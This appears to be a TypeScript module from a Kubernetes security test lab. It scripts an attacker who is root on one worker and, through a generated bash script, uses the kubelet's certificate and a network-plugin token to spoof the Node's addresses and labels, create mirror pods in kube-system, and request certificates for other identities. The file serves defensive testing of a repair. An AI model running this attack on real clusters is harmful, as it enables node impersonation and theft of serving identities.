/**
 * The attacker is root on one worker: there a unit of his own uses the kubelet's credentials, and the token
 * of the network plugin, whose account may write the status of every Node, and so its labels.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { Fail } from "../../../shared/fail.ts";
import { type Csr, nodeAsking, requestIn, SERVING_SIGNER } from "../../../shared/workers/csr.ts";
import { ENDPOINT } from "../machine/kubeadm-config.ts";
import { kubectl, type Lab, type Machine } from "../machine/machine.ts";
import { list } from "../report/snapshot.ts";
import { KIT, note, type Scene, sayAndWait } from "../scene/scene.ts";
import { pluginsToken, pretendedServer, ROLE } from "./network-plugin.ts";
import { mirrorPodOfKubelet, squatterOn } from "./objects.ts";
import { clientWishes, servingWishes, signingRequests, stolenNames } from "./requests.ts";

export const INTRUDER_HOME = "/root/intruder";
const UNIT = "intruder";
const CERT = "/var/lib/kubelet/pki/kubelet-client-current.pem";

/** curl, as kubectl reads a status before it writes it, and a kubelet may not read it. */
export const INTRUDER_PACKAGES = [["/usr/bin/curl", "curl"]] as const;

/**
 * `joins`: the worker joins again, so the attacker asks with the bootstrap token. Otherwise he asks at once,
 * with the worker's certificate.
 */
interface Intrusion {
  joins: boolean;
}

export function compromisedWorker({ workers }: Lab): Machine {
  return workers.at(-1)!;
}

/** Returns when the cluster believes the worker's lie about its addresses. */
export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
  const { lab } = scene;
  const node = compromisedWorker(lab);
  mkdirSync(node.path(INTRUDER_HOME), { recursive: true, mode: 0o700 });
  const write = (file: string, text: string) =>
    writeFileSync(node.path(`${INTRUDER_HOME}/${file}`), text, { mode: 0o700 });
  write("status.json", JSON.stringify({ status: { addresses: claimed(lab) } }));
  write(
    "client.json",
    JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(clientWishes(lab)) }),
  );
  write(
    "serving.json",
    JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(servingWishes(lab)) }),
  );
  write("run.sh", script(node, joins));
  const own = await identityOf(scene, node);
  const cp = lab.controlPlanes[0]!.nodeName;
  write("labels.json", JSON.stringify({ metadata: { labels: { [ROLE]: "" } } }));
  write("plugin.header", `Authorization: Bearer ${await pluginsToken(lab)}`);
  write("server.json", JSON.stringify(pretendedServer(own)));
  write(
    "mirror.json",
    JSON.stringify(mirrorPodOfKubelet(`keepalived-${cp}`, own, await squattersUid(lab, cp))),
  );
  await tryMirrors(scene, node, own);
  await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${INTRUDER_HOME}/run.sh`]);
  await lieIsBelieved(scene);
  note(
    scene,
    `${node.name} is the attacker's: its Node claims to have ${claimed(lab)
      .map(({ address }) => address)
      .join(", ")}`,
  );
}

function claimed(lab: Lab) {
  const node = compromisedWorker(lab);
  const stolen = stolenNames(lab);
  const of = (type: string) => (address: string) => ({ type, address });
  return [
    ...[
      { type: "InternalIP", address: node.ip },
      { type: "Hostname", address: node.nodeName },
    ],
    ...[...stolen.ips.map(of("ExternalIP")), ...stolen.dns.map(of("InternalDNS"))],
  ];
}

/**
 * The kubelet corrects its status every ten seconds and deletes the mirror pod within two; this script writes
 * both again at once. When the API goes away the script holds the kubelet: its open connection may live
 * longer, and the last status in etcd has to be the lie.
 */
function script({ nodeName }: Machine, joins: boolean): string {
  const kubeconfig = "--kubeconfig /etc/kubernetes/kubelet.conf --request-timeout=5s";
  const curl = `curl -sSk --max-time 5 --cert ${CERT} -o answer.json -w '%{http_code}'`;
  const asPlugin =
    "curl -sSk --max-time 5 -H @plugin.header -o answer.json -X PATCH -H 'Content-Type: application/merge-patch+json'";
  const api = `https://${ENDPOINT}/api/v1`;
  return `cd ${INTRUDER_HOME}
until [ -e stop ]; do
  case $(${curl} -X PATCH -H 'Content-Type: application/merge-patch+json' --data @status.json ${api}/nodes/${nodeName}/status) in
    200) systemctl kill --signal=CONT kubelet; spoke=1 ;;
    *) [ -z "$spoke" ] || systemctl kill --signal=STOP kubelet; spoke= ;;
  esac
  for pod in mirror server; do ${curl} -H 'Content-Type: application/json' --data @$pod.json ${api}/namespaces/kube-system/pods; done
  ${asPlugin} --data @labels.json ${api}/nodes/${nodeName}/status
  sleep 0.2
done >status.log 2>&1 &
if ${joins}; then
  until [ -s ${KIT}/token ]; do sleep 0.05; done
  cp ${KIT}/token token
  systemctl kill --signal=CONT kubelet
  kubectl --server https://${ENDPOINT} --insecure-skip-tls-verify --token "$(head -n 1 token)" create --validate=false -f client.json >client.log 2>&1
  until [ -e /etc/kubernetes/kubelet.conf ]; do sleep 0.05; done
fi
until kubectl ${kubeconfig} get node ${nodeName}; do sleep 0.2; done >get.log 2>&1
kubectl ${kubeconfig} create --validate=false -f serving.json >serving.log 2>&1
touch asked
wait
`;
}

async function identityOf({ lab }: Scene, { nodeName }: Machine) {
  return {
    nodeName,
    uid: (await list(lab, "nodes")).find(({ metadata }) => metadata.name === nodeName)!.metadata.uid,
  };
}

/** It names the folder of the tenant's volumes on that node. */
async function squattersUid(lab: Lab, nodeName: string): Promise<string> {
  return (await list(lab, "pods")).find(({ metadata }) => metadata.name === squatterOn(nodeName))!.metadata
    .uid;
}

/**
 * A kubelet may make mirror pods bound to itself. Notes the API server's answers to other names and to
 * another node.
 */
async function tryMirrors(scene: Scene, node: Machine, own: { nodeName: string; uid: string }) {
  const cp = scene.lab.controlPlanes[0]!.nodeName;
  const tries = [
    { what: `kube-apiserver-${cp} bound to itself`, pod: mirrorPodOfKubelet(`kube-apiserver-${cp}`, own) },
    { what: `evil-${cp} bound to itself`, pod: mirrorPodOfKubelet(`evil-${cp}`, own) },
    { what: `evil-${cp} bound to ${cp}`, pod: mirrorPodOfKubelet(`evil-${cp}`, { ...own, nodeName: cp }) },
  ];
  for (const { what, pod } of tries) {
    const command = ["kubectl", "--kubeconfig", "/etc/kubernetes/kubelet.conf", "create", "-f", "-"];
    const { exitCode, stderr } = await node.run(command, { input: JSON.stringify(pod) });
    note(
      scene,
      `a kubelet's mirror pod in kube-system, ${what}: ${exitCode === 0 ? "created" : "refused"}`,
      stderr.trim(),
    );
  }
}

/** Waited for a second time just before the damage: then etcd holds the lie. */
export async function lieIsBelieved(scene: Scene) {
  await sayAndWait(
    scene,
    `the Node ${compromisedWorker(scene.lab).nodeName} to have the API's names`,
    () => lies(scene),
    {
      seconds: 60,
      hint: `read ${INTRUDER_HOME}/status.log on the worker, with --keep`,
    },
  );
}

/**
 * Waits until the kubelet has put its Node right, and has asked for a certificate with its own names: its
 * first requests may be as before.
 */
export async function lieIsOver(scene: Scene) {
  const { nodeName } = compromisedWorker(scene.lab);
  const isOver = async () => !(await lies(scene)) && (await asksHonestly(scene));
  await sayAndWait(scene, `${nodeName} to have its own names only, and to ask for them`, isOver, {
    seconds: 120,
    hint: "read the kubelet's log on the worker, with --keep",
  });
}

/** Since the damage: the CSRs of before it are in etcd, too. */
async function asksHonestly({ lab, zero }: Scene): Promise<boolean> {
  const { nodeName, ip } = compromisedWorker(lab);
  const requests = (await list(lab, "certificatesigningrequests")) as unknown as Csr[];
  const own = requests.filter(
    (csr) => csr.spec.signerName === SERVING_SIGNER && nodeAsking(csr) === nodeName,
  );
  const since = own.filter(({ metadata }) => Date.parse(metadata.creationTimestamp ?? "") >= zero);
  return since.some((csr) => requestIn(csr)?.names.every(({ value }) => [nodeName, ip].includes(value)));
}

async function lies({ lab }: Scene): Promise<boolean> {
  const name = compromisedWorker(lab).nodeName;
  const [node] = (await list(lab, "nodes")).filter(({ metadata }) => metadata.name === name);
  const hasNames = (node!.status.addresses as { address: string }[]).some(
    ({ address }) => address === "lab-api",
  );
  return hasNames && node!.metadata.labels?.[ROLE] !== undefined;
}

/** Waits until the attacker has sent all his CSRs: from then on the repair decides about them. */
export async function intruderHasAsked(scene: Scene) {
  const node = compromisedWorker(scene.lab);
  await sayAndWait(
    scene,
    `${node.name} to ask for other identities`,
    () => existsSync(node.path(`${INTRUDER_HOME}/asked`)),
    {
      seconds: 120,
      hint: `read ${INTRUDER_HOME}/*.log on the worker, with --keep`,
    },
  );
}

/** The names of the CSRs that the API server created, and its answers to the others. */
export function intruderAsked({ lab }: Scene): { taken: string[]; refused: string[] } {
  const node = compromisedWorker(lab);
  const logs = ["client.log", "serving.log"]
    .map((file) => node.path(`${INTRUDER_HOME}/${file}`))
    .filter(existsSync);
  const lines = logs.flatMap((file) => readFileSync(file, "utf8").trim().split("\n"));
  const created = /^certificatesigningrequest\.certificates\.k8s\.io\/(\S+) created$/;
  return {
    taken: lines.flatMap((line) => created.exec(line)?.[1] ?? []),
    refused: lines.filter((line) => !created.test(line)),
  };
}

/**
 * Ends the attacker's unit. The kubelet corrects its status; after a restart it asks for a certificate with
 * its own names.
 */
export async function intruderShutOut({ lab }: Scene, { restartKubelet = false } = {}) {
  const node = compromisedWorker(lab);
  await node.run(["systemctl", "stop", `${UNIT}.service`]);
  await node.run(["systemctl", "kill", "--signal=CONT", "kubelet"]);
  await kubectl(lab, ["label", "node", node.nodeName, `${ROLE}-`]);
  if (restartKubelet) await node.run(["systemctl", "restart", "kubelet"]);
}

async function must(node: Machine, command: string[]) {
  const { exitCode, stderr } = await node.run(command);
  if (exitCode !== 0)
    throw new Fail(`"${command.join(" ")}" on ${node.name}: ${stderr.trim()}`, {
      hint: "look at the node with --keep",
    });
}
